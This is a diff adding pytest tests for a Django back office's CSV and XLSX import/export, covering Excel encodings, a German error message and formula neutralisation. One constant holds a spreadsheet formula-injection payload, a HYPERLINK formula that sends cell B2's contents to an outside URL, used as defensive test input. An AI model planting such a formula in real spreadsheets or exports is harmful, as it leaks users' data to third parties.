@@ -1,0 +1,86 @@
+"""Import and export files as spreadsheet programs write and read them."""
+
+import io
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from funding.models import FundingProgramme
+from tests.admin_forms import admin_url
+from werkzeugkoffer.backoffice.formats import SafeXLSX, SpreadsheetCSV
+
+from .test_import_export import CSV, XLSX, export_rows, preview
+
+FORMULA = '=HYPERLINK("https://example.org/?"&B2,"Details")'
+
+
+def new_row(make_programme):
+    headers, rows = export_rows(FundingProgramme.objects.filter(pk=make_programme().pk))
+    row = ["" if value is None else str(value) for value in rows[0]]
+    row[headers.index("slug")] = "aus-excel"
+    row[headers.index("version")] = ""
+    row[headers.index("title")] = "Förderung für Straßen und Plätze"
+    return headers, row
+
+
+def as_excel_csv(headers, row, encoding, delimiter):
+    import csv
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=delimiter)
+    writer.writerow(headers)
+    writer.writerow(row)
+    return buffer.getvalue().encode(encoding)
+
+
+@pytest.mark.parametrize(
+    ("encoding", "delimiter"),
+    [("cp1252", ";"), ("utf-8-sig", ";"), ("utf-8-sig", ","), ("utf-8", ",")],
+    ids=["excel-windows-1252", "excel-utf8-bom", "utf8-bom-comma", "utf8"],
+)
+def test_csv_files_as_excel_saves_them_are_read(reviewer, make_programme, encoding, delimiter):
+    headers, row = new_row(make_programme)
+    upload = SimpleUploadedFile("import.csv", as_excel_csv(headers, row, encoding, delimiter))
+
+    response = preview(reviewer, upload)
+
+    assert response.status_code == 200
+    result = response.context["result"]
+    assert [r.import_type for r in result.rows] == ["new"], [e.error for r in result.rows for e in r.errors]
+    assert "Förderung für Straßen und Plätze" in response.content.decode()
+
+
+def test_an_unreadable_file_is_refused_with_one_german_sentence(reviewer):
+    upload = SimpleUploadedFile("import.csv", b"\x81\x8d\x8f\x90\x9d;\x81\n")
+    content = preview(reviewer, upload).content.decode()
+    assert "weder in UTF-8 noch in Windows-1252" in content
+    assert "Error" not in content and "encountered" not in content
+
+
+def test_a_csv_export_makes_formulas_inert_and_its_import_restores_them(reviewer, make_programme):
+    programme = make_programme(summary=FORMULA, amount_text="-50 % der Kosten")
+    response = reviewer.post(
+        admin_url(FundingProgramme, "export"),
+        {"format": CSV, "resource": "0", "export_items": [programme.pk], "fundingprogrammeresource_summary": "on"},
+    )
+    content = response.content.decode()
+    assert "'" + FORMULA.replace('"', '""') in content
+    dataset = SpreadsheetCSV().create_dataset(response.content)
+    assert dataset.dict[0]["summary"] == FORMULA
+
+
+def test_an_xlsx_export_stores_formulas_as_text(make_programme):
+    from funding.resources import FundingProgrammeResource
+
+    programme = make_programme(summary=FORMULA)
+    dataset = FundingProgrammeResource().export(FundingProgramme.objects.filter(pk=programme.pk))
+    book = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset)))
+    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value == FORMULA]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    assert SafeXLSX().create_dataset(SafeXLSX().export_data(dataset)).dict[0]["summary"] == FORMULA
+
+
+def test_the_back_office_offers_only_the_safe_formats(reviewer):
+    content = reviewer.get(admin_url(FundingProgramme, "import")).content.decode()
+    assert f'<option value="{CSV}">csv</option>' in content and f'<option value="{XLSX}">xlsx</option>' in content
